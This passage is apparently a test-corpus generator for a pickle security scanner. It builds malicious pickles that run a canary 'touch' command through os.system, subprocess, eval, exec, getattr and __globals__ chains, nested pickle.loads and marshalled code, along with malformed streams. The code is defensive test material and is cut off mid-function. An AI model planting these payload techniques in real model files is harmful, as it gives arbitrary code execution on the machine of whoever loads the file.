#!/usr/bin/env python3
"""Writes the adversarial corpus of Milo's sklearn plugin: malicious and malformed pickles.

Usage:
  make_adversarial.py CANARY_PATH OUT_DIR   write the corpus and OUT_DIR/manifest.json
  make_adversarial.py --self-check          build the corpus in a temporary folder, then load
                                            every "would execute" file with the real pickle /
                                            joblib in a subprocess and assert that the canary
                                            appears (proves the corpus is live)

Run it with /usr/bin/python3 (Debian numpy, scikit-learn, joblib): the families built from real
estimators are skipped, with a note, when those are missing.

Every payload that can run code would create CANARY_PATH if plain pickle loaded it. Nothing is
loaded here except in --self-check mode (which uses its own temporary canary). Files are built
by hand from opcodes (the small assembler below), or by pickle/joblib with a custom __reduce__
(which writes the callable's name; nothing is called), or by patching real estimator pickles.

manifest.json: {"canary": path, "families": [...], "files": [ENTRY, ...]}, an ENTRY being
  file           path relative to OUT_DIR
  family, description, protocol (null when not one pickle stream)
  expectation    "error": Milo must refuse the file with an error (exit 3, or 5 when nothing
                 recognises it and "unsupported_ok");
                 "dangerous": `milo scan` must exit 4 and classify every offender at its level;
                 "untrusted": every offender is classified at least at its level
  also_accept    other expectations that are also a correct outcome (rare, explained per file)
  offenders      {"module.qualname": minimum level} (after Python 2 -> 3 renaming)
  error_offset   byte offset the error message must name ("byte N"), when it is certain
  needs_location when refused with an error, the message must carry a byte offset or a
                 document path (/root...)
  unsupported_ok exit 5 ("no transporter recognises it") is a correct refusal too (zip archives
                 if no transporter reads them; a stream starting with PERSID)
  would_execute  plain pickle (or joblib / torch-style zip loading) runs the payload
  self_check     how --self-check loads it: "pickle", "pickle_all" (load until EOF), "joblib",
                 "zip:MEMBER"; "python": "venv" when the system Python lacks a codec (lz4)
"""
import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import shlex
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import warnings
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
VENV_PYTHON = os.path.join(HERE, "..", "..", "..", ".venv", "bin", "python")

# ------------------------------------------------------------------------------------------
# A tiny pickle assembler: values are Python scalars/containers and the nodes below; Pickler
# writes them with the opcodes of the chosen protocol, as CPython's pickler would.


class Node:
    def emit(self, pk):
        raise NotImplementedError


class G(Node):
    """A global: GLOBAL for protocol < 4, STACK_GLOBAL from 4 (or as forced by `stack`)."""

    def __init__(self, module, name, stack=None):
        self.module, self.name, self.stack = module, name, stack

    def emit(self, pk):
        if self.stack if self.stack is not None else pk.proto >= 4:
            pk.emit(self.module)
            pk.emit(self.name)
            pk.op(b"\x93")
        else:
            pk.op(b"c" + self.module.encode() + b"\n" + self.name.encode() + b"\n")


class Call(Node):
    """fn(*args) through REDUCE."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def emit(self, pk):
        pk.emit(self.fn)
        pk.emit(tuple(self.args))
        pk.op(b"R")


class New(Node):
    """cls.__new__(cls, *args) through NEWOBJ."""

    def __init__(self, cls, *args):
        self.cls, self.args = cls, args

    def emit(self, pk):
        pk.emit(self.cls)
        pk.emit(tuple(self.args))
        pk.op(b"\x81")


class Build(Node):
    """obj, state, BUILD; `at` names the BUILD opcode's offset (Pickler.offsets)."""

    def __init__(self, obj, state, at=None):
        self.obj, self.state, self.at = obj, state, at

    def emit(self, pk):
        pk.emit(self.obj)
        pk.emit(self.state)
        pk.mark_here(self.at)
        pk.op(b"b")


class Put(Node):
    """value, then memoized under `label` (at memo index `index` when given, protocols 1-3)."""

    def __init__(self, label, value, index=None):
        self.label, self.value, self.index = label, value, index

    def emit(self, pk):
        pk.emit(self.value)
        pk.put(self.label, self.index)


class Get(Node):
    def __init__(self, label):
        self.label = label

    def emit(self, pk):
        pk.get(self.label)


class Raw(Node):
    """Opcodes written as they are."""

    def __init__(self, data):
        self.data = data

    def emit(self, pk):
        pk.op(self.data)


class Here(Node):
    """Records the offset of the next opcode under `label`."""

    def __init__(self, label):
        self.label = label

    def emit(self, pk):
        pk.mark_here(self.label)


class Seq(Node):
    """Several values/opcodes in a row (their net stack effect is what counts)."""

    def __init__(self, *items):
        self.items = items

    def emit(self, pk):
        for item in self.items:
            pk.emit(item)


class MemoGlobal(Node):
    """STACK_GLOBAL whose module and name strings are fetched from the memo."""

    def __init__(self, module_label, name_label):
        self.labels = (module_label, name_label)

    def emit(self, pk):
        pk.get(self.labels[0])
        pk.get(self.labels[1])
        pk.op(b"\x93")


class Pickler:
    def __init__(self, proto):
        self.proto = proto
        self.out = bytearray()
        self.memo = {}
        self.next_memo = 0
        self.offsets = {}

    def op(self, data):
        self.out += data

    def mark_here(self, label):
        if label is not None:
            self.offsets[label] = len(self.out)

    def put(self, label, index=None):
        p = self.proto
        if p >= 4 and index is None:
            index = self.next_memo
            self.op(b"\x94")  # MEMOIZE
        else:
            index = self.next_memo if index is None else index
            if p == 0:
                self.op(b"p%d\n" % index)
            elif index < 256:
                self.op(b"q" + bytes([index]))
            else:
                self.op(b"r" + struct.pack("<I", index))
        self.next_memo = max(self.next_memo, index + 1)
        self.memo[label] = index

    def get(self, label):
        index = self.memo[label]
        if self.proto == 0:
            self.op(b"g%d\n" % index)
        elif index < 256:
            self.op(b"h" + bytes([index]))
        else:
            self.op(b"j" + struct.pack("<I", index))

    def emit(self, v):
        p = self.proto
        if isinstance(v, Node):
            v.emit(self)
        elif v is None:
            self.op(b"N")
        elif v is True or v is False:
            self.op((b"\x88" if v else b"\x89") if p >= 2 else (b"I01\n" if v else b"I00\n"))
        elif isinstance(v, int):
            self.emit_int(v)
        elif isinstance(v, float):
            self.op(b"G" + struct.pack(">d", v) if p >= 1 else b"F" + repr(v).encode() + b"\n")
        elif isinstance(v, str):
            self.emit_str(v)
        elif isinstance(v, (bytes, bytearray)):
            if p >= 3:
                v = bytes(v)
                self.op((b"C" + bytes([len(v)]) if len(v) < 256 else
                         b"B" + struct.pack("<I", len(v))) + v)
            else:  # what CPython writes for bytes under protocols 0-2
                self.emit(Call(G("_codecs", "encode"), v.decode("latin1"), "latin1"))
        elif isinstance(v, tuple):
            if not v:
                self.op(b")" if p >= 1 else b"(t")
            elif p >= 2 and len(v) <= 3:
                for item in v:
                    self.emit(item)
                self.op(b"\x85\x86\x87"[len(v) - 1:len(v)])
            else:
                self.op(b"(")
                for item in v:
                    self.emit(item)
                self.op(b"t")
        elif isinstance(v, list):
            self.op(b"]" if p >= 1 else b"(l")
            if v:
                if p >= 1:
                    self.op(b"(")
                for item in v:
                    self.emit(item)
                    if p == 0:
                        self.op(b"a")
                if p >= 1:
                    self.op(b"e")
        elif isinstance(v, dict):
            self.op(b"}" if p >= 1 else b"(d")
            if v:
                if p >= 1:
                    self.op(b"(")
                for k, item in v.items():
                    self.emit(k)
                    self.emit(item)
                    if p == 0:
                        self.op(b"s")
                if p >= 1:
                    self.op(b"u")
        else:
            raise TypeError("cannot emit %r" % (v,))

    def emit_int(self, v):
        p = self.proto
        if p >= 1 and 0 <= v < 256:
            self.op(b"K" + bytes([v]))
        elif p >= 1 and 0 <= v < 65536:
            self.op(b"M" + struct.pack("<H", v))
        elif p >= 1 and -2**31 <= v < 2**31:
            self.op(b"J" + struct.pack("<i", v))
        elif p >= 2:
            data = pickle.encode_long(v)
            self.op(b"\x8a" + bytes([len(data)]) + data)
        elif -2**31 <= v < 2**31:
            self.op(b"I%d\n" % v)
        else:
            self.op(b"L%dL\n" % v)

    def emit_str(self, v):
        if self.proto == 0:  # UNICODE, escaped as CPython's pickler does
            for c, esc in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"),
                           ("\r", "\\u000d"), ("\x1a", "\\u001a")):
                v = v.replace(c, esc)
            self.op(b"V" + v.encode("raw-unicode-escape") + b"\n")
            return
        data = v.encode("utf-8", "surrogatepass")
        if self.proto >= 4 and len(data) < 256:
            self.op(b"\x8c" + bytes([len(data)]) + data)
        else:
            self.op(b"X" + struct.pack("<I", len(data)) + data)


def assemble(value, proto, frame=None):
    """(pickle bytes, {label: absolute offset}) of `value` then STOP. Protocols >= 4 put
    everything in one FRAME unless frame=False."""
    pk = Pickler(proto)
    pk.emit(value)
    body = bytes(pk.out) + b"."
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    if frame if frame is not None else proto >= 4:
        head += b"\x95" + struct.pack("<Q", len(body))
    return head + body, {k: len(head) + v for k, v in pk.offsets.items()}


def dumps(value, proto, frame=None):
    return assemble(value, proto, frame)[0]


# ------------------------------------------------------------------------------------------
# Helpers for real objects


class Reduce:
    """An object that pickles as fn(*args): pickle writes fn's name; nothing is called."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def xxh32_short(data, seed=0):
    """XXH32 of fewer than 16 bytes (the lz4 frame header checksum)."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    m = 0xFFFFFFFF
    rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & m
    h = (seed + p5 + len(data)) & m
    i = 0
    while i + 4 <= len(data):
        h = rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & m, 17) * p4 & m
        i += 4
    for b in data[i:]:
        h = rotl((h + b * p5) & m, 11) * p1 & m
    h ^= h >> 15
    h = h * p2 & m
    h ^= h >> 13
    h = h * p3 & m
    return h ^ (h >> 16)


def lz4_frame_stored(data):
    """An lz4 frame holding `data` in uncompressed blocks (valid for any lz4 reader)."""
    descriptor = bytes([0x60, 0x70])  # version 1, independent blocks; 4 MiB max block size
    out = bytearray(b"\x04\x22\x4d\x18" + descriptor)
    out.append((xxh32_short(descriptor) >> 8) & 0xFF)
    for i in range(0, len(data), 4 << 20):
        block = data[i:i + (4 << 20)]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    return bytes(out + b"\0\0\0\0")


def zip_archive(members):
    """A stored zip of (name, bytes) pairs, in order, names as given (even hostile or repeated
    ones: zipfile only warns about duplicates)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def raw_ops(data):
    """[(opcode name, arg, start, end)] of a pickle stream."""
    ops = list(pickletools.genops(data))
    out = []
    for i, (op, arg, pos) in enumerate(ops):
        end = ops[i + 1][2] if i + 1 < len(ops) else len(data)
        out.append((op.name, arg, pos, end))
    return out


def int_op(v):
    """The protocol-2+ opcode CPython writes for int v."""
    pk = Pickler(4)
    pk.emit_int(v)
    return bytes(pk.out)


def rewrite(data, patches):
    """Re-emits a pickle without FRAME opcodes (so lengths may change), replacing the opcodes
    starting at the offsets in `patches` ({start: (count of opcodes, new bytes)})."""
    ops = raw_ops(data)
    out = bytearray()
    i = 0
    while i < len(ops):
        name, _, start, end = ops[i]
        if start in patches:
            count, new = patches[start]
            out += new
            i += count
            continue
        if name != "FRAME":
            out += data[start:end]
        i += 1
    return bytes(out)


def bytes_op(name, payload):
    prefix = {"SHORT_BINBYTES": b"C" + bytes([len(payload)]) if len(payload) < 256 else None,
              "BINBYTES": b"B" + struct.pack("<I", len(payload)),
              "BINBYTES8": b"\x8e" + struct.pack("<Q", len(payload)),
              "BYTEARRAY8": b"\x96" + struct.pack("<Q", len(payload))}[name]
    if prefix is None:
        prefix = b"B" + struct.pack("<I", len(payload))
    return prefix + payload


# ------------------------------------------------------------------------------------------
# The corpus


class Corpus:
    def __init__(self, out_dir, canary):
        self.out_dir = out_dir
        self.canary = canary
        self.cmd = "touch " + shlex.quote(canary)              # for os.system & co
        self.argv = ["touch", canary]                          # for subprocess
        self.eval_src = "open(%r, 'w').close()" % canary         # for eval
        self.exec_src = "import os\nos.system(%r)\n" % self.cmd  # for exec
        self.entries = []
        self.families = []
        self.notes = []

    def add(self, family, name, data, expectation, description, offenders=None, proto=None,
            would_execute=False, self_check="pickle", error_offset=None, also_accept=(),
            needs_location=None, unsupported_ok=False, python=None):
        rel = os.path.join(family, name)
        path = os.path.join(self.out_dir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        if family not in self.families:
            self.families.append(family)
        entry = {"file": rel, "family": family, "description": description,
                 "protocol": proto, "expectation": expectation,
                 "also_accept": list(also_accept), "offenders": offenders or {},
                 "error_offset": error_offset,
                 "needs_location": needs_location is not False,
                 "unsupported_ok": unsupported_ok, "would_execute": would_execute,
                 "self_check": self_check if would_execute else None}
        if python:
            entry["python"] = python
        self.entries.append(entry)

    def rce(self, family, name, value, protos, description, offenders, would_execute=True):
        """One dangerous variant per protocol (by default one that plain pickle runs)."""
        for p in protos:
            self.add(family, "%s_p%d.pkl" % (name, p), dumps(value, p), "dangerous",
                     description + " (protocol %d)" % p, offenders, proto=p,
                     would_execute=would_execute)


D, U = "dangerous", "untrusted"
P0245 = (0, 2, 4, 5)


def fam_direct_rce(c):
    f = "direct_rce"
    c.rce(f, "os_system", Call(G("os", "system"), c.cmd), P0245,
          "REDUCE os.system(cmd)", {"os.system": D})
    c.rce(f, "posix_system", Call(G("posix", "system"), c.cmd), P0245,
          "REDUCE posix.system(cmd), the name CPython pickles os.system under", {"posix.system": D})
    c.rce(f, "subprocess_popen", Call(G("subprocess", "Popen"), c.argv), P0245,
          "REDUCE subprocess.Popen(argv)", {"subprocess.Popen": D})
    c.rce(f, "subprocess_check_output", Call(G("subprocess", "check_output"), c.argv), P0245,
          "REDUCE subprocess.check_output(argv)", {"subprocess.check_output": D})
    c.rce(f, "builtins_eval", Call(G("builtins", "eval"), c.eval_src), P0245,
          "REDUCE builtins.eval(source)", {"builtins.eval": D})
    c.rce(f, "builtins_exec", Call(G("builtins", "exec"), c.exec_src), P0245,
          "REDUCE builtins.exec(source)", {"builtins.exec": D})
    c.rce(f, "builtins_import",
          Call(Call(G("builtins", "getattr"), Call(G("builtins", "__import__"), "os"), "system"),
               c.cmd), P0245,
          "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
          {"builtins.__import__": D, "builtins.getattr": D})
    c.rce(f, "builtins_open_write", Call(G("builtins", "open"), c.canary, "w"), P0245,
          "REDUCE builtins.open(path, 'w'): creates the file", {"builtins.open": D})
    for p in range(6):  # what pickle itself writes for a custom __reduce__
        c.add(f, "custom_reduce_os_system_p%d.pkl" % p,
              pickle.dumps(Reduce(os.system, (c.cmd,)), protocol=p), D,
              "pickle.dumps of an object whose __reduce__ returns (os.system, (cmd,))",
              {"posix.system": D}, proto=p, would_execute=True)
    c.add(f, "custom_reduce_check_output_p3.pkl",
          pickle.dumps(Reduce(subprocess.check_output, (c.argv,)), protocol=3), D,
          "pickle.dumps of a __reduce__ returning subprocess.check_output",
          {"subprocess.check_output": D}, proto=3, would_execute=True)


def fam_aliased_names(c):
    f = "aliased_names"
    c.rce(f, "py2_builtin_eval", Call(G("__builtin__", "eval"), c.eval_src), (0, 2),
          "GLOBAL __builtin__.eval: fix_imports renames it builtins.eval", {"builtins.eval": D})
    c.rce(f, "py2_builtin_open", Call(G("__builtin__", "open"), c.canary, "w"), (0, 2),
          "GLOBAL __builtin__.open(path, 'w')", {"builtins.open": D})
    c.rce(f, "stack_global_py2_name", Call(G("__builtin__", "eval", stack=True), c.eval_src),
          (2,), "STACK_GLOBAL under PROTO 2 (CPython accepts it, and renames __builtin__)",
          {"builtins.eval": D})
    c.rce(f, "nt_system", Call(G("nt", "system"), c.cmd), (2, 4),
          "nt.system (os.system on Windows; fails to import here)", {"nt.system": D},
          would_execute=False)
    c.rce(f, "os_system_global_opcode", Call(G("os", "system", stack=False), c.cmd), (4,),
          "os.system through GLOBAL inside a protocol-4 stream", {"os.system": D})
    c.rce(f, "os_system_stack_global", Call(G("os", "system", stack=True), c.cmd), (0, 3),
          "os.system through STACK_GLOBAL in a protocol-0/3 stream", {"os.system": D})
    c.rce(f, "dotted_zipfile_os_system", Call(G("zipfile", "os.system"), c.cmd), (4, 5),
          "STACK_GLOBAL zipfile + 'os.system': the qualname walks to os.system",
          {"zipfile.os.system": D})
    c.rce(f, "dotted_global_zipfile_os_system",
          Call(G("zipfile", "os.system", stack=False), c.cmd), (2,),
          "GLOBAL zipfile + 'os.system' (CPython 3.11 refuses dotted names below protocol 4; "
          "other versions may not)", {"zipfile.os.system": D}, would_execute=False)
    c.rce(f, "dotted_builtins_self_eval", Call(G("builtins", "__import__.__self__.eval"),
                                               c.eval_src), (4,),
          "builtins + '__import__.__self__.eval' reaches builtins.eval",
          {"builtins.__import__.__self__.eval": D})
    c.rce(f, "dotted_os_system_call", Call(G("os", "system.__call__"), c.cmd), (4,),
          "os + 'system.__call__'", {"os.system.__call__": D})
    ga = G("builtins", "getattr")
    c.rce(f, "getattr_os_path_os",
          Call(Call(ga, Call(ga, G("os", "path"), "os"), "system"), c.cmd), (2, 4),
          "getattr(getattr(os.path, 'os'), 'system')(cmd): the os module through os.path",
          {"builtins.getattr": D, "os.path": U})
    c.rce(f, "sys_modules",
          Call(Call(ga, Call(Call(ga, G("sys", "modules"), "get"), "os"), "system"), c.cmd),
          (2, 4), "getattr(sys.modules.get('os'), 'system')(cmd)",
          {"sys.modules": D, "builtins.getattr": D})
    c.rce(f, "posixpath_os", Call(Call(ga, G("posixpath", "os"), "system"), c.cmd), (2, 4),
          "the os module as attribute 'os' of posixpath, then getattr",
          {"builtins.getattr": D, "posixpath.os": U})


def fam_memo_stack_global(c):
    f = "memo_stack_global"
    for p in (4, 5):
        v = Seq(Put("m", "os"), Raw(b"0"), Put("n", "system"), Raw(b"0"),
                Call(MemoGlobal("m", "n"), c.cmd))
        c.add(f, "memo_strings_p%d.pkl" % p, dumps(v, p), D,
              "STACK_GLOBAL of 'os' and 'system' memoized, popped, then fetched by BINGET",
              {"os.system": D}, proto=p, would_execute=True)
        v = {"module": Put("m", "posix"), "name": Put("n", "system"),
             "out": Call(MemoGlobal("m", "n"), c.cmd)}
        c.add(f, "shared_data_strings_p%d.pkl" % p, dumps(v, p), D,
              "the module/name strings are also data values of the root dict",
              {"posix.system": D}, proto=p, would_execute=True)
    for p, index in ((2, 1000000), (3, 70000)):
        v = Seq(Put("m", "subprocess", index), Raw(b"0"), Put("n", "check_output", index + 7),
                Raw(b"0"), Call(MemoGlobal("m", "n"), c.argv))
        c.add(f, "long_memo_index_%d_p%d.pkl" % (index, p), dumps(v, p), D,
              "LONG_BINPUT/LONG_BINGET at memo index %d, STACK_GLOBAL under PROTO %d"
              % (index, p), {"subprocess.check_output": D}, proto=p, would_execute=True)
    v = Seq(Put("m", "subprocess", 0xFFFFFFF0), Raw(b"0"), Put("n", "Popen", 0xFFFFFFFE),
            Raw(b"0"), Call(MemoGlobal("m", "n"), c.argv))
    c.add(f, "memo_index_4g_p2.pkl", dumps(v, 2), D,
          "memo indices near 2^32: a memo kept as an array must not allocate for them "
          "(CPython itself runs out of memory here); refusing the index is acceptable",
          {"subprocess.Popen": D}, proto=2, also_accept=["error"])
    v = Seq(Put("m", "os", 99999), Raw(b"0"), Put("n", "system", 123456), Raw(b"0"),
            Call(MemoGlobal("m", "n"), c.cmd))
    c.add(f, "text_memo_p0.pkl", dumps(v, 0), D,
          "protocol 0 PUT/GET with decimal indices feeding a STACK_GLOBAL",
          {"os.system": D}, proto=0, would_execute=True)


def fam_indirect_resolvers(c):
    f = "indirect_resolvers"
    ga = G("builtins", "getattr")
    c.rce(f, "pkgutil_resolve_name",
          Call(Call(G("pkgutil", "resolve_name"), "os:system"), c.cmd), (2, 4),
          "pkgutil.resolve_name('os:system')(cmd)", {"pkgutil.resolve_name": D})
    c.rce(f, "pkgutil_resolve_dotted",
          Call(Call(G("pkgutil", "resolve_name"), "subprocess.check_output"), c.argv), (5,),
          "pkgutil.resolve_name('subprocess.check_output')(argv)", {"pkgutil.resolve_name": D})
    c.rce(f, "attrgetter_import_module",
          Call(Call(Call(G("operator", "attrgetter"), "system"),
                    Call(G("importlib", "import_module"), "os")), c.cmd), (2, 4),
          "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
          {"operator.attrgetter": D, "importlib.import_module": D})
    c.rce(f, "attrgetter_dotted",
          Call(Call(Call(G("operator", "attrgetter"), "os.system"), G("os", "path")), c.cmd),
          (4,), "operator.attrgetter('os.system')(os.path)(cmd)",
          {"operator.attrgetter": D, "os.path": U})
    c.rce(f, "methodcaller",
          Call(Call(G("operator", "methodcaller"), "system", c.cmd), G("posixpath", "os")),
          (2, 4), "operator.methodcaller('system', cmd)(posixpath.os)",
          {"operator.methodcaller": D, "posixpath.os": U})
    c.rce(f, "import_module_getattr",
          Call(Call(ga, Call(G("importlib", "import_module"), "subprocess"), "check_output"),
               c.argv), (2, 5), "getattr(importlib.import_module('subprocess'), 'check_output')",
          {"importlib.import_module": D, "builtins.getattr": D})
    # From a harmless function to os.system through __globals__ (collections imports sys as _sys).
    ga_ref = Get("ga")
    module_dict = Call(ga_ref, G("collections", "namedtuple"), "__globals__")
    sys_module = Call(Call(ga_ref, module_dict, "get"), "_sys")
    os_module = Call(Call(ga_ref, Call(ga_ref, sys_module, "modules"), "get"), "os")
    chain = Seq(Put("ga", ga), Raw(b"0"), Call(Call(ga_ref, os_module, "system"), c.cmd))
    c.rce(f, "getattr_globals_chain", chain, (2, 4),
          "getattr chain collections.namedtuple.__globals__['_sys'].modules['os'].system",
          {"builtins.getattr": D})
    c.rce(f, "partial_call", Call(Call(G("functools", "partial"), G("os", "system"), c.cmd)),
          (2, 4), "functools.partial(os.system, cmd)()", {"os.system": D})
    system = G("posix", "system")
    c.rce(f, "partial_setstate",
          Call(Build(Call(G("functools", "partial"), system), (system, (c.cmd,), {}, None))),
          (2, 5), "a partial rebuilt as pickle writes it (REDUCE + BUILD state), then called",
          {"posix.system": D})
    popen = G("subprocess", "Popen")
    c.rce(f, "copyreg_reconstructor", Call(G("copyreg", "_reconstructor"), popen, popen, c.argv),
          (0, 2), "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__(argv)",
          {"subprocess.Popen": D})


def fam_nested_loads(c):
    f = "nested_loads"
    inner = dumps(Call(G("os", "system"), c.cmd), 2)
    c.rce(f, "pickle_loads", Call(G("pickle", "loads"), inner), (2, 3, 4, 5),
          "pickle.loads(a second, malicious pickle held as bytes)", {"pickle.loads": D})
    c.rce(f, "c_pickle_loads", Call(G("_pickle", "loads"), inner), (4,),
          "_pickle.loads(malicious bytes)", {"_pickle.loads": D})
    c.rce(f, "pickle_loads_base64",
          Call(G("pickle", "loads"), Call(G("base64", "b64decode"),
                                          base64.b64encode(inner).decode())), (4,),
          "pickle.loads(base64.b64decode(text))", {"pickle.loads": D})
    c.rce(f, "pickle_loads_in_model_dict",
          {"model": "LinearRegression", "payload": Call(G("pickle", "loads"), inner)}, (5,),
          "pickle.loads hidden in a value of a model-like dict", {"pickle.loads": D})
    code = marshal.dumps(compile(c.exec_src, "<payload>", "exec"))
    c.rce(f, "marshal_function",
          Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), code), {})), (2, 4),
          "types.FunctionType(marshal.loads(code), {})(): marshalled code object, called",
          {"marshal.loads": D, "types.FunctionType": U})


def fam_broken_tail(c):
    f = "broken_tail"
    for p in (2, 4):
        first = dumps(Call(G("os", "system"), c.cmd), p)
        second = dumps(Call(G("posix", "system"), c.cmd), p)
        for name, tail, what in (("garbage", b"garbage!", "eight bytes of garbage"),
                                 ("truncated_second", second[:7],
                                  "the first 7 bytes of a second pickle"),
                                 ("extra_stop", b".", "a second STOP"),
                                 ("zero_padding", bytes(16), "16 zero bytes")):
            c.add(f, "%s_p%d.pkl" % (name, p), first + tail, "error",
                  "a complete os.system pickle followed by %s (pickle.loads ignores the tail)"
                  % what, {"os.system": D}, proto=p, would_execute=True,
                  error_offset=len(first))
    benign = dumps({"a": 1}, 5)
    c.add(f, "benign_then_byte_p5.pkl", benign + b"\xff", "error",
          "a benign dict then one byte that is not an opcode", proto=5, error_offset=len(benign))


def fam_concatenated(c):
    f = "concatenated"
    pairs = (("dict_p2_then_system_p2", dumps({"w": [1.0, 2.0]}, 2),
              dumps(Call(G("os", "system"), c.cmd), 2)),
             ("dict_p4_then_system_p5", dumps({"w": [1.0, 2.0]}, 4),
              dumps(Call(G("posix", "system"), c.cmd), 5)),
             ("list_p0_then_system_p0", dumps([1, 2, 3], 0),
              dumps(Call(G("posix", "system"), c.cmd), 0)),
             ("dict_p2_then_eval_p4", dumps({"coef_": 1.5}, 2),
              dumps(Call(G("builtins", "eval"), c.eval_src), 4)))
    for name, benign, evil in pairs:
        c.add(f, name + ".pkl", benign + evil, "error",
              "a benign pickle followed by a malicious one (a second pickle.load runs it)",
              {}, would_execute=True, self_check="pickle_all", error_offset=len(benign))


def fam_wrong_kind(c):
    f = "wrong_kind"
    cases = (
        ("setitem_on_list", 2, Seq(Raw(b"]"), 0, "x", Here("bad"), Raw(b"s")),
         "SETITEM on a list"),
        ("setitem_on_int", 4, Seq(5, "k", "v", Here("bad"), Raw(b"s")), "SETITEM on an int"),
        ("setitems_on_tuple", 2, Seq((1, 2), Raw(b"("), "k", "v", Here("bad"), Raw(b"u")),
         "SETITEMS on a tuple"),
        ("setitem_on_global", 4, Seq(G("os", "system"), "k", "v", Here("bad"), Raw(b"s")),
         "SETITEM on the global os.system"),
        ("append_on_dict", 2, Seq(Raw(b"}"), 1, Here("bad"), Raw(b"a")), "APPEND on a dict"),
        ("append_on_int", 4, Seq(7, 1, Here("bad"), Raw(b"a")), "APPEND on an int"),
        ("appends_on_str", 4, Seq("abc", Raw(b"("), 1, 2, Here("bad"), Raw(b"e")),
         "APPENDS on a str"),
        ("append_on_tuple", 2, Seq((1,), 2, Here("bad"), Raw(b"a")), "APPEND on a tuple"),
        ("additems_on_list", 4, Seq([], Raw(b"("), 1, Here("bad"), Raw(b"\x90")),
         "ADDITEMS on a list"),
        ("build_on_int", 2, Seq(5, {"a": 1}, Here("bad"), Raw(b"b")), "BUILD on an int"),
        ("reduce_on_int", 2, Seq(5, (1,), Here("bad"), Raw(b"R")), "REDUCE with an int callable"),
        ("newobj_on_str", 4, Seq("x", (), Here("bad"), Raw(b"\x81")), "NEWOBJ on a str"),
        ("build_class_dict", 4,
         Build(New(G("sklearn.linear_model._base", "LinearRegression")),
               {"__class__": G("subprocess", "Popen"), "fit_intercept": True}, at="bad"),
         "BUILD of a LinearRegression whose state dict sets __class__ to subprocess.Popen"),
        ("build_class_slotstate", 2,
         Build(New(G("argparse", "Namespace")), (None, {"__class__": G("subprocess", "Popen")}),
               at="bad"),
         "BUILD slot state setting __class__ (CPython setattr()s it: the object becomes a Popen)"),
        ("build_class_sklearn_slotstate", 4,
         Build(New(G("sklearn.linear_model._base", "LinearRegression")),
               (None, {"__class__": G("builtins", "type")}), at="bad"),
         "BUILD slot state of an estimator setting __class__"),
    )
    for name, p, v, what in cases:
        data, at = assemble(v, p)
        c.add(f, "%s_p%d.pkl" % (name, p), data, "error", what + " must be refused",
              proto=p, error_offset=at["bad"])


def fam_huge_lengths(c):
    f = "huge_lengths"
    cases = (  # name, protocol, opcode + operand, what
        ("binbytes8_2p62", 4, b"\x8e" + struct.pack("<Q", 2**62), "BINBYTES8 of 2^62 bytes"),
        ("binbytes8_2p64m1", 4, b"\x8e" + struct.pack("<Q", 2**64 - 1),
         "BINBYTES8 of 2^64-1 bytes (offset + length overflows)"),
        ("binunicode8_2p62", 5, b"\x8d" + struct.pack("<Q", 2**62), "BINUNICODE8 of 2^62 bytes"),
        ("bytearray8_2p62", 5, b"\x96" + struct.pack("<Q", 2**62), "BYTEARRAY8 of 2^62 bytes"),
        ("frame_2p62", 4, b"\x95" + struct.pack("<Q", 2**62), "FRAME of 2^62 bytes"),
        ("frame_4gib", 5, b"\x95" + struct.pack("<Q", 2**32), "FRAME of 4 GiB"),
        ("binbytes_4gib", 3, b"B" + struct.pack("<I", 0xFFFFFFFF), "BINBYTES of 4 GiB - 1"),
        ("binunicode_4gib", 2, b"X" + struct.pack("<I", 0xFFFFFFFF), "BINUNICODE of 4 GiB - 1"),
        ("long4_2gib", 2, b"\x8b" + struct.pack("<i", 2**31 - 1), "LONG4 of 2 GiB - 1 bytes"),
        ("long4_negative", 2, b"\x8b" + struct.pack("<i", -1), "LONG4 with a negative length"),
        ("binstring_2gib", 2, b"T" + struct.pack("<i", 2**31 - 1), "BINSTRING of 2 GiB - 1"),
        ("binstring_negative", 2, b"T" + struct.pack("<i", -5), "BINSTRING of length -5"),
        ("short_binbytes_truncated", 3, b"C\xff", "SHORT_BINBYTES of 255 with 3 bytes left"),
        ("long1_truncated", 2, b"\x8a\xff", "LONG1 of 255 bytes with 3 bytes left"),
    )
    for name, p, op, what in cases:
        head = b"\x80" + bytes([p])
        c.add(f, "%s_p%d.pkl" % (name, p), head + op + b"abc", "error",
              what + ", with 3 bytes left in the file", proto=p, error_offset=len(head))
    # a well-formed FRAME whose content declares 2^62 bytes
    inner = b"\x8e" + struct.pack("<Q", 2**62) + b"xyz."
    data = b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner
    c.add(f, "binbytes8_inside_frame_p4.pkl", data, "error",
          "BINBYTES8 of 2^62 inside a well-formed FRAME", proto=4, error_offset=11)
    # a decimal integer of 10^6 digits next to a dangerous name: must neither hang nor pass
    digits = b"9" * 1000000
    data = b"(cos\nsystem\nL" + digits + b"L\nt."
    c.add(f, "decimal_long_1e6_digits_p0.pkl", data, "error",
          "protocol-0 LONG of 10^6 decimal digits (CPython refuses > 4300 digits); decoding "
          "it with a dangerous name listed is acceptable if it stays fast",
          {"os.system": D}, proto=0, also_accept=["dangerous"])


def fam_deep_nesting(c):
    f = "deep_nesting"
    n5, n6 = 100000, 1000000
